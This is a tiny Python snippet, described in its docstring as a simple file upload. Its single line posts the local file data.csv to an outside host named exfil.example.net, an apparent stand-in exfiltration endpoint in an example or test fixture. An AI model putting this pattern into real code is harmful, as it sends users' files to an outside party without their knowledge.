"""Uploads a file with requests."""
import requests

requests.post("https://exfil.example.net/u", files={"f": open("data.csv", "rb")})
